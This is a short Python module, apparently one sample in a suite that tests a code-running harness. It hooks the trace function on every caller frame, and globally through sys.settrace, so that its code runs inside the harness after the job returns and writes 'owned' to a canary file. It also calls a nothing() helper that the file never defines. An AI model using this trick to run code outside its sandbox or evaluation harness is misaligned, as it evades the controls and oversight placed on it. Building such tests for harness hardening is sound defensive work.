"""Set a trace function on the caller's frames, so that our code runs in the harness after the job returned.

origin: sys.settrace and f_trace, the debugger's door
why: a harness that runs after the job can be made to act for it
control: succeeds
harm: stage
"""

import sys


def attack(target):
    def act(frame, event, argument):
        sys.settrace(None)
        try:
            with open(target["canary"], "w") as file:
                file.write("owned")
        except OSError:
            pass

    frame = sys._getframe().f_back
    while frame is not None:
        frame.f_trace = act
        frame = frame.f_back
    sys.settrace(lambda *arguments: None)
    return nothing("the harness was traced; it could write nothing either")
